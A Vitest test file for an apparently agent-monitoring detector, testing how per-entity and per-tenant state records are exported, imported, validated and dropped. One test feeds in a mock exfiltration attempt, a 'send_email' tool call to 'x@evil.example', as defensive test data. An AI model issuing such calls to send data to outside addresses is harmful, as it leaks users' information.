// Record transfer: one entity's (or tenant's) state out of one core and into another, as a Redis-backed
// host does around each call.
import { describe, expect, it } from "vitest";
import fc from "fast-check";
import { createDetector, type Detector } from "../../js/runtime/node/index.js";

const T0 = Date.UTC(2024, 0, 8, 10, 0, 0);
const MIN = 60_000;
const alice = { tenant: "acme", principal: "alice" };
const bob = { tenant: "acme", principal: "bob" };

function teach(d: Detector, who: { tenant: string; principal: string }, n: number, start = T0): number {
  const tools = ["read_file", "search", "summarise"];
  let t = start;
  for (let i = 0; i < n; i++) {
    t = start + i * 3 * MIN;
    d.check({ ...who, tool: tools[i % 3]!, args: { path: `/docs/${i % 4}.md` }, time: t });
  }
  return t;
}

function code(fn: () => unknown): string {
  try {
    fn();
  } catch (e) {
    return (e as { code: string }).code;
  }
  return "no error";
}

describe("record transfer", () => {
  it("moves an entity and its tenant into another core, which then decides exactly as the first", () => {
    const a = createDetector();
    const last = teach(a, alice, 60);
    const ent = a.exportRecord(alice, "entity")!;
    const ten = a.exportRecord(alice, "tenant")!;
    expect(ent).toBeInstanceOf(Uint8Array);
    expect(ent.length).toBe(40 + a.stats().recordBytes);

    const b = createDetector();
    expect(b.importRecord(alice, "tenant", ten)).toBe("created");
    expect(b.importRecord(alice, "entity", ent)).toBe("created");
    expect(b.stats().entities).toBe(1);
    expect(b.stats().tenants).toBe(1);
    expect(b.stateHash()).not.toBe("0000000000000000");
    // same records, same decisions: a normal call and an exfiltration attempt
    for (const call of [
      { ...alice, tool: "search", args: { path: "/docs/1.md" }, time: last + 3 * MIN },
      { ...alice, tool: "send_email", args: { to: "x@evil.example" }, time: last + 4 * MIN },
    ]) {
      const da = a.check(call);
      const db = b.check(call);
      expect(db.action).toBe(da.action);
      expect(db.risk).toBe(da.risk);
      expect(db.reasons.map((r) => r.code)).toEqual(da.reasons.map((r) => r.code));
    }
    expect(b.exportRecord(alice, "entity")).toEqual(a.exportRecord(alice, "entity"));
    expect(b.exportRecord(alice, "tenant")).toEqual(a.exportRecord(alice, "tenant"));
  });

  it("replaces an existing record and returns null for an untracked one", () => {
    const a = createDetector();
    teach(a, alice, 10);
    const early = a.exportRecord(alice)!;
    teach(a, alice, 10, T0 + 3600_000);
    expect(a.exportRecord(alice)).not.toEqual(early);
    expect(a.importRecord(alice, "entity", early)).toBe("replaced");
    expect(a.exportRecord(alice)).toEqual(early);
    expect(a.exportRecord({ tenant: "acme", principal: "nobody" })).toBeNull();
    expect(a.exportRecord({ tenant: "other", principal: "alice" }, "tenant")).toBeNull();
  });

  it("refuses a record of another identity, kind, layout, or damaged bytes, and changes nothing", () => {
    const a = createDetector();
    teach(a, alice, 10);
    teach(a, bob, 10);
    const ent = a.exportRecord(alice)!;
    const b = createDetector();
    teach(b, bob, 5);
    const before = b.stateHash();
    expect(code(() => b.importRecord(bob, "entity", ent))).toBe("RECORD_KEY");
    expect(code(() => b.importRecord(alice, "tenant", ent))).toBe("RECORD_KEY");
    expect(code(() => b.importRecord(alice, "entity", ent.subarray(0, ent.length - 1)))).toBe("RECORD_LENGTH");
    expect(code(() => b.importRecord(alice, "entity", new Uint8Array(10)))).toBe("RECORD_LENGTH");
    const flipped = ent.slice();
    flipped[200]! ^= 1;
    expect(code(() => b.importRecord(alice, "entity", flipped))).toBe("RECORD_CORRUPT");
    const foreign = ent.slice();
    foreign[0] = 0x50;
    expect(code(() => b.importRecord(alice, "entity", foreign))).toBe("RECORD_FOREIGN");
    const newer = ent.slice();
    newer[4] = 9;
    expect(code(() => b.importRecord(alice, "entity", newer))).toBe("RECORD_VERSION");
    expect(code(() => b.importRecord(alice, "robot" as never, ent))).toBe("INVALID_RECORD_KIND");
    const other = createDetector({ maxToolsPerEntity: 8 } as never);
    expect(code(() => other.importRecord(alice, "entity", ent))).toBe("RECORD_INCOMPATIBLE");
    const seeded = createDetector({ hashSeed: 7 } as never);
    expect(code(() => seeded.importRecord(alice, "entity", ent))).toBe("RECORD_INCOMPATIBLE");
    expect(b.stateHash()).toBe(before);
  });

  it("drops a record and keeps the rest reachable (records stay dense)", () => {
    const a = createDetector({ maxEntities: 64 } as never);
    const people = Array.from({ length: 20 }, (_, i) => ({ tenant: "acme", principal: `p${i}` }));
    for (const p of people) teach(a, p, 3);
    const snaps = new Map(people.map((p) => [p.principal, a.exportRecord(p)!]));
    expect(a.dropRecord(people[3]!)).toBe(true);
    expect(a.dropRecord(people[3]!)).toBe(false);
    expect(a.dropRecord(people[0]!)).toBe(true);
    expect(a.stats().entities).toBe(18);
    for (const p of people.slice(4)) expect(a.exportRecord(p)).toEqual(snaps.get(p.principal));
    expect(a.exportRecord(people[3]!)).toBeNull();
    // fill past capacity: eviction works over the compacted records
    for (let i = 0; i < 100; i++) a.check({ tenant: "acme", principal: `q${i}`, tool: "t", time: T0 + i });
    expect(a.stats().entities + a.stats().tenants).toBe(a.stats().capacity);
    expect(a.dropRecord({ tenant: "acme" }, "tenant")).toBe(true);
    expect(a.stats().tenants).toBe(0);
  });

  it("any sequence of creates, drops and imports keeps every tracked record reachable", () => {
    fc.assert(
      fc.property(
        fc.array(fc.record({ op: fc.constantFrom("check", "drop", "reimport"), who: fc.nat(40) }), {
          minLength: 1,
          maxLength: 120,
        }),
        (ops) => {
          const d = createDetector({ maxEntities: 64 } as never);
          const live = new Set<number>();
          let t = T0;
          for (const { op, who } of ops) {
            const id = { tenant: "acme", principal: `p${who}` };
            if (op === "check") {
              d.check({ ...id, tool: "t", time: (t += 1000) });
              live.add(who);
            } else if (op === "drop") {
              expect(d.dropRecord(id)).toBe(live.delete(who));
            } else if (live.has(who)) {
              const r = d.exportRecord(id)!;
              d.dropRecord(id);
              expect(d.importRecord(id, "entity", r)).toBe("created");
              expect(d.exportRecord(id)).toEqual(r);
            }
          }
          expect(d.stats().entities).toBe(live.size);
          for (let w = 0; w <= 40; w++)
            expect(d.exportRecord({ tenant: "acme", principal: `p${w}` }) !== null).toBe(live.has(w));
        },
      ),
      { numRuns: 60 },
    );
  });
});
